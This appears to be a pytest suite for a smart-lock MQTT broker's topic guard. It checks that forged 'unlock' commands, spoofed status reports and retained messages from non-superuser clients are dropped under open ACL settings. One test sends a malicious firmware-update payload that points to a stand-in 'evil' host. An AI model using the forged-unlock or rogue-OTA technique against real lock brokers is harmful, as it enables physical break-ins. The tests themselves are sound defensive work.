"""Lock topics against a hostile client on a real sakura-broker, whatever the ACL configuration
says (lockrules/topic_guard.hpp, docs/lockrules.md "Who may publish on a lock's topics").

The open configurations are the ones the old system ran with: auth.acl_nomatch=allow (a user
without mqtt_acl rows may publish anywhere) and anonymous access without an acl file. In both a
phone used to open any door by publishing `unlock` on /<lockno>/call. Accounts come from an
auth.users_file: the lock (its username is its lockno), a second lock, a phone with no ACL rows and
an operator (superuser). "Nothing arrives" is always proved by a later marker that does arrive on
the same subscription, never by sleeping."""
import pytest

import mqtt_raw as m
from conftest import wait_for

LOCK = "AB000000001"
OTHER_LOCK = "AB000000002"
PASSWORD = "s3cret"


def users_file(tmp_path):
    path = tmp_path / "users"
    # The lock as POST /devices provisions it; the second lock as an old deployment might have
    # it, without ACL rows (under acl_nomatch=allow it may then publish anywhere).
    path.write_text(f"user {LOCK} {PASSWORD}\n"
                    f"acl {LOCK} /{LOCK}/statu 2\nacl {LOCK} /{LOCK}/fw 2\n"
                    f"acl {LOCK} /{LOCK}/call 1\nacl {LOCK} /{LOCK}/ota 1\n"
                    f"user {OTHER_LOCK} {PASSWORD}\n"
                    f"user phone {PASSWORD}\n"
                    f"user operator {PASSWORD} superuser\n")
    return str(path)


# The two configurations that let any client publish anywhere as far as the ACL is concerned.
OPEN_CONFIGS = {
    "acl_nomatch_allow": dict(auth__allow_anonymous="false", auth__acl_nomatch="allow"),
    "anonymous_no_acl_file": dict(auth__allow_anonymous="true", auth__acl_nomatch="deny"),
}


@pytest.fixture(params=sorted(OPEN_CONFIGS))
def open_broker(request, start_broker, tmp_path):
    b = start_broker(auth__users_file=users_file(tmp_path), **OPEN_CONFIGS[request.param])
    b.config = request.param
    return b


def client(broker, name, client_id=None):
    """A connected client: `name` is a users-file account, or None for anonymous."""
    c = m.Client(broker.port)
    kw = {} if name is None else {"username": name, "password": PASSWORD}
    c.connect(client_id or f"{name or 'anon'}-{id(c)}", **kw)
    return c


def attacker(broker):
    """The phone: a named user without ACL rows under acl_nomatch=allow, else anonymous."""
    return client(broker, "phone" if broker.config == "acl_nomatch_allow" else None)


def publish(c, topic, payload, retain=False, qos=1, packet_id=1):
    c.send(m.publish(topic, payload, qos=qos, retain=retain, packet_id=packet_id))
    if qos:
        c.expect(m.PUBACK)  # a dropped publish is still acknowledged (3.1.1 has no negative ack)


def publishes_until(c, marker):
    """(topic, payload, retain) of every PUBLISH `c` receives, up to and including `marker`."""
    got = []
    while True:
        p = c.expect(m.PUBLISH)
        if p.qos:
            c.send(m.ack("puback", p.publish_id))
        got.append((p.topic, p.payload.decode(errors="replace"), p.retain))
        if p.payload == marker.encode():
            return got


def test_a_forged_unlock_never_reaches_the_lock(open_broker):
    lock = client(open_broker, LOCK, client_id=LOCK)
    assert lock.subscribe(1, (f"/{LOCK}/call", 1), (f"/{LOCK}/ota", 1)) == [1, 1]
    phone = attacker(open_broker)
    publish(phone, f"/{LOCK}/call", "unlock")
    publish(phone, f"/{LOCK}/ota", '{"version":"6.6.6","url":"http://evil/fw.bin"}', packet_id=2)
    # The operator's marker on the same topic: whatever the phone's publishes did is ahead of it.
    publish(client(open_broker, "operator"), f"/{LOCK}/call", "marker")
    assert publishes_until(lock, "marker") == [(f"/{LOCK}/call", "marker", False)]
    wait_for(lambda: "command from a non-superuser dropped" in open_broker.log(), what="the log line")


def test_a_lock_of_its_own_cannot_unlock_another(start_broker, tmp_path):
    """A lock whose flash was read is a non-superuser account too (without ACL rows, under
    acl_nomatch=allow: the ACL lets it publish anywhere)."""
    b = start_broker(auth__users_file=users_file(tmp_path), **OPEN_CONFIGS["acl_nomatch_allow"])
    lock = client(b, LOCK, client_id=LOCK)
    assert lock.subscribe(1, (f"/{LOCK}/call", 1)) == [1]
    publish(client(b, OTHER_LOCK), f"/{LOCK}/call", "unlock")
    publish(client(b, "operator"), f"/{LOCK}/call", "marker")
    assert publishes_until(lock, "marker") == [(f"/{LOCK}/call", "marker", False)]


def test_reports_for_a_lock_are_taken_only_from_that_lock(open_broker):
    watcher = client(open_broker, "operator")
    assert watcher.subscribe(1, (f"/{LOCK}/statu", 1), (f"/{LOCK}/fw", 1)) == [1, 1]
    publish(attacker(open_broker), f"/{LOCK}/statu", "0")
    publish(client(open_broker, OTHER_LOCK), f"/{LOCK}/fw", '{"version":"0.0.1","state":"running"}')
    # The lock's own report is the marker, and passes.
    publish(client(open_broker, LOCK), f"/{LOCK}/statu", "1")
    assert publishes_until(watcher, "1") == [(f"/{LOCK}/statu", "1", False)]


def test_an_anonymous_client_cannot_ask_for_an_unlock(start_broker, tmp_path):
    """Both owners' requests from one anonymous client used to open the door like a real pair."""
    b = start_broker(auth__users_file=users_file(tmp_path), auth__allow_anonymous="true")
    watcher = client(b, "operator")
    assert watcher.subscribe(1, (f"/{LOCK}/#", 1)) == [1]
    anon = client(b, None)
    publish(anon, f"/{LOCK}/m", "")
    publish(anon, f"/{LOCK}/f", "", packet_id=2)
    wait_for(lambda: b.log().count("owner request from an anonymous client dropped") >= 1,
             what="the refusal")
    publish(client(b, "operator"), f"/{LOCK}/x", "marker")
    assert publishes_until(watcher, "marker") == [(f"/{LOCK}/x", "marker", False)]
    assert "both owners of" not in b.log()


@pytest.mark.parametrize("topic", [f"/{LOCK}/m", f"/{LOCK}/f", f"/{LOCK}/call", "/unauth"])
def test_rule_topics_are_never_retained(open_broker, topic):
    # The operator may publish on every one of them: retention is refused to everybody.
    big = "x" * 1_000_000
    publish(client(open_broker, "operator"), topic, big, retain=True)
    if topic != f"/{LOCK}/call":
        publish(attacker(open_broker), topic, big, retain=True)
    late = client(open_broker, "operator")
    assert late.subscribe(1, (topic, 1), ("/marker", 1)) == [1, 1]
    publish(client(open_broker, "operator"), "/marker", "marker")
    # A retained message would come right after the SUBACK, ahead of the marker.
    assert publishes_until(late, "marker") == [("/marker", "marker", False)]


def test_retain_stays_for_topics_without_a_rule(open_broker):
    """The control for the test above: the same client's retained publish elsewhere is kept."""
    publish(attacker(open_broker), f"/{LOCK}/note", "kept", retain=True)
    late = client(open_broker, "operator")
    assert late.subscribe(1, (f"/{LOCK}/note", 1)) == [1]
    p = late.expect(m.PUBLISH)
    assert (p.payload, p.retain) == (b"kept", True)


@pytest.mark.parametrize("config,warning", [
    ("acl_nomatch_allow", "auth.acl_nomatch=allow"),
    ("anonymous_no_acl_file", "auth.allow_anonymous=true without auth.acl_file"),
])
def test_an_open_configuration_is_warned_about_at_start(start_broker, tmp_path, config, warning):
    b = start_broker(auth__users_file=users_file(tmp_path), **OPEN_CONFIGS[config])
    wait_for(lambda: warning in b.log(), what=warning)
    assert any("[warning]" in line or "warn" in line for line in b.log().splitlines() if warning in line)


def test_a_closed_configuration_starts_without_the_warning(start_broker, tmp_path):
    b = start_broker(auth__users_file=users_file(tmp_path), auth__allow_anonymous="false")
    wait_for(lambda: "auth: backend=" in b.log(), what="the auth line")
    assert "lets clients" not in b.log()

